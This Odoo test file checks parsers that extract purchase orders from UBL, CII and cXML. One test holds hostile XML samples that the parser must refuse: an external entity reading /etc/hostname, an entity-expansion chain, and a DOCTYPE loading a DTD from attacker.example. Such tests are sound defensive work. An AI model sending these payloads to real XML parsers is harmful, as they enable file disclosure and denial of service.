import datetime
from decimal import Decimal

from odoo.tests import BaseCase

from ..extraction.document import Party
from ..extraction.reader import BrokenSource, Hints
from ..extraction.readers.cii import CiiReader
from ..extraction.readers.cxml import CxmlReader
from ..extraction.readers.ubl import UblReader
from ..extraction.source import Source

US = Party(name="Nord Supply Inc", vat="DE811111111", gln="4000001000005")


def day(text):
    return datetime.date.fromisoformat(text)


class StructuredCase(BaseCase):
    reader = None
    sample = None
    charset = "utf-8"

    def read_all(self, content, own=(US,)):
        content = content if isinstance(content, bytes) else content.encode(self.charset)
        source = Source("order", content)
        self.assertTrue(self.reader.can_read(source), source.kind)
        return self.reader.read(source, Hints(own=own))

    def read(self, content, own=(US,)):
        (document,) = self.read_all(content, own)
        return document

    def changed(self, old, new, **options):
        """The sample with one thing written in another way."""
        self.assertIn(old, self.sample)
        return self.read(self.sample.replace(old, new), **options)

    def check(self, item, **expected):
        found = {key: getattr(item, key) for key in expected}
        self.assertEqual(found, expected)


UBL = """<?xml version="1.0" encoding="UTF-8"?>
<{root} xmlns="urn:oasis:names:specification:ubl:schema:xsd:{root}-2"
 xmlns:a="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
 xmlns:b="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
<b:CustomizationID>urn:fdc:peppol.eu:poacc:trns:order:3</b:CustomizationID>
<b:ID>PO-77</b:ID><b:IssueDate>2026-03-01</b:IssueDate>{extra}
<b:Note>Call before delivery</b:Note><b:DocumentCurrencyCode>SEK</b:DocumentCurrencyCode>
<a:BuyerCustomerParty><b:SupplierAssignedAccountID>C-12</b:SupplierAssignedAccountID><a:Party>
 <b:EndpointID schemeID="0088">7300010000001</b:EndpointID>
 <a:PartyName><b:Name>Kund AB</b:Name></a:PartyName>
 <a:PostalAddress><b:StreetName>Gatan 1</b:StreetName><b:CityName>Malmö</b:CityName>
  <b:PostalZone>211 20</b:PostalZone>
  <a:Country><b:IdentificationCode>SE</b:IdentificationCode></a:Country></a:PostalAddress>
 <a:PartyTaxScheme><b:CompanyID>SE556000000001</b:CompanyID></a:PartyTaxScheme>
 <a:Contact><b:Name>Eva</b:Name><b:ElectronicMail>eva@kund.example</b:ElectronicMail></a:Contact>
</a:Party></a:BuyerCustomerParty>
<a:SellerSupplierParty><b:CustomerAssignedAccountID>V-9</b:CustomerAssignedAccountID><a:Party>
 <a:PartyLegalEntity><b:RegistrationName>Nord Supply Inc</b:RegistrationName></a:PartyLegalEntity>
</a:Party></a:SellerSupplierParty>
<a:Delivery><a:DeliveryLocation><b:Name>Lager 2</b:Name><a:Address>
  <b:StreetName>Hamnen 5</b:StreetName><b:CityName>Lund</b:CityName></a:Address></a:DeliveryLocation>
 <a:RequestedDeliveryPeriod><b:StartDate>2026-03-08</b:StartDate><b:EndDate>2026-03-10</b:EndDate>
 </a:RequestedDeliveryPeriod></a:Delivery>
<a:DeliveryTerms><b:ID>DAP</b:ID><a:DeliveryLocation><b:ID>Lund</b:ID></a:DeliveryLocation></a:DeliveryTerms>
<a:AllowanceCharge><b:ChargeIndicator>true</b:ChargeIndicator>
 <b:AllowanceChargeReason>Freight</b:AllowanceChargeReason><b:Amount>20</b:Amount></a:AllowanceCharge>
<a:TaxTotal><b:TaxAmount currencyID="SEK">30.00</b:TaxAmount></a:TaxTotal>
<a:AnticipatedMonetaryTotal><b:LineExtensionAmount>100</b:LineExtensionAmount>
 <b:TaxExclusiveAmount>120.00</b:TaxExclusiveAmount><b:PayableAmount>150.00</b:PayableAmount>
</a:AnticipatedMonetaryTotal>
<a:OrderLine><a:LineItem><b:ID>1</b:ID><b:Quantity unitCode="C62">500</b:Quantity>
 <b:LineExtensionAmount>90</b:LineExtensionAmount>
 <a:AllowanceCharge><b:ChargeIndicator>false</b:ChargeIndicator>
  <b:MultiplierFactorNumeric>10</b:MultiplierFactorNumeric><b:Amount>10</b:Amount></a:AllowanceCharge>
 <a:Price><b:PriceAmount>20.00</b:PriceAmount><b:BaseQuantity>100</b:BaseQuantity></a:Price>
 <a:Item><b:Description>M4, zinc</b:Description><b:Name>Screw</b:Name>
  <a:BuyersItemIdentification><b:ID>K-1</b:ID></a:BuyersItemIdentification>
  <a:SellersItemIdentification><b:ID>N-1</b:ID></a:SellersItemIdentification>
  <a:StandardItemIdentification><b:ID schemeID="0160">4006381333931</b:ID></a:StandardItemIdentification>
 </a:Item></a:LineItem></a:OrderLine>
<a:OrderLine><a:LineItem><b:ID>2</b:ID><b:Quantity unitCode="KGM">2.5</b:Quantity>
 <a:Delivery><a:RequestedDeliveryPeriod><b:StartDate>2026-04-01</b:StartDate>
 </a:RequestedDeliveryPeriod></a:Delivery>
 <a:Price><b:PriceAmount>4</b:PriceAmount></a:Price><a:Item><b:Name>Glue</b:Name></a:Item>
</a:LineItem></a:OrderLine></{root}>"""


class TestUbl(StructuredCase):
    reader = UblReader()

    def test_order(self):
        order = self.read(UBL.format(root="Order", extra=""))
        self.check(
            order,
            document_type="purchase_order",
            number="PO-77",
            order_date=day("2026-03-01"),
            requested_date=day("2026-03-10"),
            currency="SEK",
            note="Call before delivery",
            incoterm="DAP Lund",
            amount_untaxed=Decimal(120),
            amount_tax=Decimal(30),
            amount_total=Decimal(150),
        )
        self.check(
            order.partner,
            name="Kund AB",
            reference="C-12",
            vat="SE556000000001",
            gln="7300010000001",
            email="eva@kund.example",
            street="Gatan 1",
            zip="211 20",
            city="Malmö",
            country="SE",
        )
        self.check(order.delivery, name="Lager 2", street="Hamnen 5", city="Lund")
        self.assertEqual(order.addressee.name, "Nord Supply Inc")
        self.assertEqual([(c.description, c.amount) for c in order.charges], [("Freight", 20)])
        self.check(
            order.lines[0],
            sequence=1,
            partner_code="K-1",
            our_code="N-1",
            barcode="4006381333931",
            description="Screw\nM4, zinc",
            quantity=Decimal(500),
            uom="C62",
            price_unit=Decimal("0.2"),
            discount=Decimal(10),
            price_subtotal=Decimal(90),
        )
        self.check(order.lines[1], quantity=Decimal("2.5"), requested_date=day("2026-04-01"))
        self.assertEqual(
            order.evidence["lines.1.quantity"].place, "/Order/OrderLine[2]/LineItem/Quantity"
        )

    def test_the_vendor_answers_with_his_own_codes(self):
        extra = "<a:OrderReference><b:ID>P00012</b:ID></a:OrderReference>"
        content = UBL.format(root="OrderResponse", extra=extra)
        order = self.read(content, own=(Party(name="Kund AB"),))
        self.check(order, document_type="order_confirmation", our_order="P00012")
        self.check(order.partner, name="Nord Supply Inc", reference="V-9")
        self.check(order.lines[0], partner_code="N-1", our_code="K-1")

    def test_kinds(self):
        change = "<b:OrderTypeCode>230</b:OrderTypeCode>"
        for root, extra, kind in (
            ("OrderChange", "", "order_change"),
            ("Order", change, "order_change"),
            ("Quotation", "", "quotation"),
            ("Invoice", "", "other"),
            ("RequestForQuotation", "", "other"),
        ):
            order = self.read(UBL.format(root=root, extra=extra))
            self.assertEqual(order.document_type, kind, root)

    def test_envelope_with_two_orders(self):
        inner = UBL.format(root="Order", extra="").partition("?>")[2]
        content = f"<StandardBusinessDocument>{inner}{inner}</StandardBusinessDocument>"
        self.assertEqual(len(self.read_all(content)), 2)

    def test_discounts_with_the_price_need_no_price_before(self):
        content = UBL.format(root="Order", extra="").replace(
            "<b:PriceAmount>4</b:PriceAmount>",
            "<b:PriceAmount>4</b:PriceAmount><a:AllowanceCharge>"
            "<b:ChargeIndicator>false</b:ChargeIndicator><b:Amount>1</b:Amount></a:AllowanceCharge>",
        )
        self.check(self.read(content).lines[1], price_unit=Decimal(5), discount=Decimal(20))

    def test_discounts_with_price_and_line_make_one(self):
        before = "<b:PriceAmount>20.00</b:PriceAmount><b:BaseQuantity>100</b:BaseQuantity>"
        taken = "<b:ChargeIndicator>false</b:ChargeIndicator><b:Amount>5</b:Amount>"
        content = UBL.format(root="Order", extra="").replace(
            before, f"{before}<a:AllowanceCharge>{taken}</a:AllowanceCharge>"
        )
        # 500 at 25.00 per 100, 5.00 off each 100, then 10.00 off the line
        self.check(self.read(content).lines[0], price_unit=Decimal("0.25"), discount=Decimal(28))

    def test_parties_that_are_only_registered(self):
        content = UBL.format(root="Order", extra="").replace(
            "<a:PartyTaxScheme>",
            "<a:PartyLegalEntity><a:RegistrationAddress><b:CityName>Ystad</b:CityName>"
            "</a:RegistrationAddress></a:PartyLegalEntity><a:PartyTaxScheme>",
        )
        self.assertEqual(self.read(content).partner.city, "Malmö")
        content = content.replace("<b:CityName>Malmö</b:CityName>", "")
        self.assertEqual(self.read(content).partner.city, "Ystad")

    def test_a_surcharge_on_a_line_is_a_negative_discount(self):
        content = UBL.format(root="Order", extra="").replace(
            "<b:ChargeIndicator>false", "<b:ChargeIndicator>true"
        )
        self.assertEqual(self.read(content).lines[0].discount, -10)

    def test_files_of_two_bytes_a_letter(self):
        text = UBL.format(root="Order", extra="").replace("UTF-8", "UTF-16") + "\n"
        for charset in ("utf-16", "utf-16-be"):
            mark = "" if charset == "utf-16" else "\ufeff"
            order = self.read((mark + text).encode(charset))
            self.assertEqual(order.partner.city, "Malmö")

    def test_hostile_xml_is_refused(self):
        order = UBL.format(root="Order", extra="&x;").partition("?>")[2]
        doctypes = (
            '<!DOCTYPE Order [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
            '<!DOCTYPE Order [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]>',
            '<!DOCTYPE Order SYSTEM "http://attacker.example/x.dtd">',
            "<!DOCTYPE Order [<!ATTLIST Order x CDATA 'y'>]>",
        )
        for doctype in doctypes:
            for charset in ("utf-8", "utf-16"):
                content = f'<?xml version="1.0" encoding="{charset}"?>{doctype}{order}'
                with self.assertRaises(BrokenSource):
                    self.reader.read(Source("x.xml", content.encode(charset)), Hints())
        with self.assertRaises(BrokenSource):
            self.reader.read(Source("x.xml", UBL[:900].encode()), Hints())


CII = """<?xml version="1.0" encoding="UTF-8"?>
<r:{root} xmlns:r="urn:un:unece:uncefact:data:SCRDMCCBDACIOMessageStructure:100"
 xmlns:m="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:128"
 xmlns:u="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:128">
<r:ExchangedDocument><m:ID>B-5</m:ID><m:TypeCode>{code}</m:TypeCode>
 <m:IssueDateTime><u:DateTimeString format="102">20260402</u:DateTimeString></m:IssueDateTime>
 <m:IncludedNote><m:Content>No Saturday</m:Content></m:IncludedNote></r:ExchangedDocument>
<r:SupplyChainTradeTransaction>
<m:IncludedSupplyChainTradeLineItem>
 <m:SpecifiedTradeProduct><m:GlobalID schemeID="0160">4006381333931</m:GlobalID>
  <m:SellerAssignedID>N-1</m:SellerAssignedID><m:BuyerAssignedID>K-1</m:BuyerAssignedID>
  <m:Name>Screw</m:Name></m:SpecifiedTradeProduct>
 <m:SpecifiedLineTradeAgreement>
  <m:GrossPriceProductTradePrice><m:ChargeAmount>30.00</m:ChargeAmount>
   <m:BasisQuantity unitCode="C62">100</m:BasisQuantity>
   <m:AppliedTradeAllowanceCharge><m:ChargeIndicator><u:Indicator>false</u:Indicator></m:ChargeIndicator>
    <m:ActualAmount>3.00</m:ActualAmount></m:AppliedTradeAllowanceCharge></m:GrossPriceProductTradePrice>
  <m:NetPriceProductTradePrice><m:ChargeAmount>27.00</m:ChargeAmount>
   <m:BasisQuantity unitCode="C62">100</m:BasisQuantity></m:NetPriceProductTradePrice>
 </m:SpecifiedLineTradeAgreement>
 <m:SpecifiedLineTradeDelivery><m:RequestedQuantity unitCode="C62">200</m:RequestedQuantity>
 </m:SpecifiedLineTradeDelivery>
 <m:SpecifiedLineTradeSettlement><m:SpecifiedTradeSettlementLineMonetarySummation>
  <m:LineTotalAmount>54.00</m:LineTotalAmount></m:SpecifiedTradeSettlementLineMonetarySummation>
 </m:SpecifiedLineTradeSettlement></m:IncludedSupplyChainTradeLineItem>
<m:ApplicableHeaderTradeAgreement>
 <m:SellerTradeParty><m:Name>Nord Supply Inc</m:Name></m:SellerTradeParty>
 <m:BuyerTradeParty><m:ID>K10</m:ID><m:Name>Client SA</m:Name>
  <m:PostalTradeAddress><m:PostcodeCode>69002</m:PostcodeCode><m:LineOne>Rue 1</m:LineOne>
   <m:CityName>Lyon</m:CityName><m:CountryID>FR</m:CountryID></m:PostalTradeAddress>
  <m:SpecifiedTaxRegistration><m:ID schemeID="VA">FR32123456789</m:ID></m:SpecifiedTaxRegistration>
 </m:BuyerTradeParty>
 <m:BuyerOrderReferencedDocument><m:IssuerAssignedID>P9</m:IssuerAssignedID></m:BuyerOrderReferencedDocument>
</m:ApplicableHeaderTradeAgreement>
<m:ApplicableHeaderTradeDelivery><m:RequestedDeliverySupplyChainEvent><m:OccurrenceDateTime>
 <u:DateTimeString format="102">20260415</u:DateTimeString></m:OccurrenceDateTime>
</m:RequestedDeliverySupplyChainEvent></m:ApplicableHeaderTradeDelivery>
<m:ApplicableHeaderTradeSettlement><m:OrderCurrencyCode>EUR</m:OrderCurrencyCode>
 <m:SpecifiedTradeSettlementHeaderMonetarySummation><m:LineTotalAmount>54.00</m:LineTotalAmount>
 <m:TaxTotalAmount>10.80</m:TaxTotalAmount><m:GrandTotalAmount>64.80</m:GrandTotalAmount>
 </m:SpecifiedTradeSettlementHeaderMonetarySummation></m:ApplicableHeaderTradeSettlement>
</r:SupplyChainTradeTransaction></r:{root}>"""


class TestCii(StructuredCase):
    reader = CiiReader()

    def test_order(self):
        order = self.read(CII.format(root="SCRDMCCBDACIOMessageStructure", code="220"))
        self.check(
            order,
            document_type="purchase_order",
            number="B-5",
            order_date=day("2026-04-02"),
            requested_date=day("2026-04-15"),
            currency="EUR",
            note="No Saturday",
            our_order=None,
            amount_untaxed=Decimal(54),
            amount_tax=Decimal("10.80"),
            amount_total=Decimal("64.80"),
        )
        self.check(
            order.partner, name="Client SA", reference="K10", vat="FR32123456789", zip="69002"
        )
        self.check(
            order.lines[0],
            partner_code="K-1",
            our_code="N-1",
            barcode="4006381333931",
            quantity=Decimal(200),
            uom="C62",
            price_unit=Decimal("0.3"),
            discount=Decimal(10),
            price_subtotal=Decimal(54),
        )

    def test_kinds(self):
        root = "SCRDMCCBDACIOMessageStructure"
        for code, kind in (("230", "order_change"), ("231", "order_confirmation")):
            self.assertEqual(self.read(CII.format(root=root, code=code)).document_type, kind)
        invoice = self.read(CII.format(root="CrossIndustryInvoice", code="380"))
        self.assertEqual(invoice.document_type, "other")

    def test_what_the_price_is_raised_by_counts_against_its_discount(self):
        raised = (
            "<m:ActualAmount>4.00</m:ActualAmount></m:AppliedTradeAllowanceCharge>"
            "<m:AppliedTradeAllowanceCharge><m:ChargeIndicator><u:Indicator>true</u:Indicator>"
            "</m:ChargeIndicator><m:ActualAmount>1.00</m:ActualAmount>"
        )
        content = CII.replace("<m:ActualAmount>3.00</m:ActualAmount>", raised)
        order = self.read(content.format(root="SCRDMCCBDACIOMessageStructure", code="220"))
        self.check(order.lines[0], price_unit=Decimal("0.3"), discount=Decimal(10))

    def test_legal_texts_are_no_notes(self):
        legal = "<m:IncludedNote><m:Content>HRB 1</m:Content><m:SubjectCode>REG</m:SubjectCode>"
        content = CII.replace("<m:IncludedNote>", legal + "</m:IncludedNote><m:IncludedNote>", 1)
        order = self.read(content.format(root="SCRDMCCBDACIOMessageStructure", code="220"))
        self.assertEqual(order.note, "No Saturday")

    def test_what_replaces_an_order_is_a_change(self):
        code = "220</m:TypeCode><m:PurposeCode>5</m:PurposeCode><m:TypeCode>"
        order = self.read(CII.format(root="SCRDMCCBDACIOMessageStructure", code=code))
        self.assertEqual(order.document_type, "order_change")


CXML = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.example/schemas/cXML/1.2.014/cXML.dtd">
<cXML payloadID="1@buyer.example" timestamp="2026-03-01T10:00:00-05:00"><Header>
<From><Credential domain="DUNS"><Identity>123456789</Identity></Credential></From>
<To><Credential domain="DUNS"><Identity>987654321</Identity></Credential></To></Header>
<Request><OrderRequest><OrderRequestHeader orderID="PO-77" orderDate="2026-03-01T10:00:00-05:00" type="{type}" orderVersion="2">
<Total><Money currency="USD">109.50</Money></Total>
<ShipTo><Address isoCountryCode="US" addressID="W2"><Name xml:lang="en">Buyer Warehouse</Name>
<PostalAddress><DeliverTo>Joe</DeliverTo><Street>2 Dock Rd</Street><City>Dallas</City><State>TX</State>
<PostalCode>75201</PostalCode><Country isoCountryCode="US">United States</Country></PostalAddress></Address></ShipTo>
<BillTo><Address isoCountryCode="US"><Name xml:lang="en">Buyer Corp</Name><PostalAddress>
<Street>1 Main St</Street><Street>Suite 4</Street><City>Austin</City><PostalCode>73301</PostalCode>
<Country isoCountryCode="US">United States</Country></PostalAddress></Address></BillTo>
<Contact role="buyer"><Name xml:lang="en">Eva Berg</Name><Email>eva@buyer.example</Email>
<Phone><TelephoneNumber><CountryCode isoCountryCode="US">1</CountryCode><AreaOrCityCode>555</AreaOrCityCode>
<Number>0100</Number></TelephoneNumber></Phone></Contact>
<Comments xml:lang="en">Call before delivery</Comments></OrderRequestHeader>
<ItemOut quantity="500" lineNumber="1" requestedDeliveryDate="2026-03-10"><ItemID><SupplierPartID>N-1</SupplierPartID>
<BuyerPartID>K-1</BuyerPartID></ItemID><ItemDetail><UnitPrice><Money currency="USD">20.00</Money></UnitPrice>
<Description xml:lang="en">Screw M4 zinc</Description><UnitOfMeasure>EA</UnitOfMeasure>
<PriceBasisQuantity quantity="100" conversionFactor="1"><UnitOfMeasure>EA</UnitOfMeasure></PriceBasisQuantity>
<Classification domain="UNSPSC">31161500</Classification></ItemDetail></ItemOut></OrderRequest></Request></cXML>"""


class TestCxml(StructuredCase):
    reader = CxmlReader()
    sample = CXML.format(type="new")

    def test_order(self):
        order = self.read(self.sample)
        self.check(
            order,
            document_type="purchase_order",
            number="PO-77",
            revision="2",
            order_date=day("2026-03-01"),
            currency="USD",
            note="Call before delivery",
            amount_total=Decimal("109.50"),
        )
        self.check(
            order.partner,
            name="Buyer Corp",
            email="eva@buyer.example",
            phone="+1 555 0100",
            street="1 Main St, Suite 4",
            zip="73301",
            country="US",
        )
        self.check(order.delivery, name="Buyer Warehouse", street="2 Dock Rd", zip="75201")
        self.check(
            order.lines[0],
            partner_code="K-1",
            our_code="N-1",
            description="Screw M4 zinc",
            quantity=Decimal(500),
            uom="EA",
            price_unit=Decimal("0.2"),
            requested_date=day("2026-03-10"),
        )

    def test_kinds(self):
        self.assertEqual(self.read(CXML.format(type="update")).document_type, "order_change")
        login = CXML.replace("OrderRequest>", "ProfileRequest>").format(type="new")
        self.assertEqual(self.read(login).document_type, "other")

    def test_only_a_plain_external_document_type_is_borne(self):
        entity = CXML.replace('.dtd">', '.dtd" [<!ENTITY x "y">]>').format(type="new")
        with self.assertRaises(BrokenSource):
            self.read(entity)

    def test_texts_without_what_stands_in_them(self):
        order = self.changed("Screw M4 zinc<", "Screw M4 zinc<ShortName>Screw</ShortName><")
        self.assertEqual(order.lines[0].description, "Screw M4 zinc")
        attached = "<Attachment><URL>cid:1</URL></Attachment>"
        order = self.changed("Call before delivery", "Call before delivery" + attached)
        self.assertEqual(order.note, "Call before delivery")

    def test_the_price_before_deductions(self):
        change = (
            "20.00</Money><Modifications><Modification><OriginalPrice><Money>25.00</Money>"
            "</OriginalPrice><AdditionalDeduction type='x'/></Modification></Modifications>"
        )
        order = self.changed("20.00</Money>", change)
        self.check(order.lines[0], price_unit=Decimal("0.25"), discount=Decimal(20))

    def test_prices_of_another_unit_than_the_ordered(self):
        order = self.changed('conversionFactor="1"', 'conversionFactor="10"')
        self.assertEqual(order.lines[0].price_unit, 2)

    def test_what_the_total_holds_shows_in_the_lines(self):
        tax = "<Tax><Money>20.00</Money></Tax><ShipTo>"
        for total, net, gross in (("100.00", 100, None), ("120.00", None, 120)):
            content = CXML.replace("109.50", total).replace("<ShipTo>", tax)
            order = self.read(content.format(type="new"))
            self.check(order, amount_untaxed=net, amount_total=gross, amount_tax=Decimal(20))

    def test_files_of_two_bytes_a_letter_may_name_their_dtd(self):
        content = CXML.format(type="new").replace("UTF-8", "UTF-16")
        self.assertEqual(self.read(content.encode("utf-16")).number, "PO-77")
